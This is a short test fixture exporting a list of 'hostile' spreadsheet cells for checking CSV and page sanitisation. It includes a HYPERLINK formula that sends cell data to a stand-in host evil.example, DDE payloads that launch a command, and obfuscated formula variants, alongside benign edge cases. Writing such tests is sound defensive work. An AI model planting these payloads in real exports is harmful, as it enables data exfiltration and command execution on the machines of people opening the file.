/** Hostile text for CSV and page tests. */

/** Hostile cells: each would run as a formula (or smuggle one) in a spreadsheet. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  "'=already quoted",
  '-',
  '-Infinity',
];
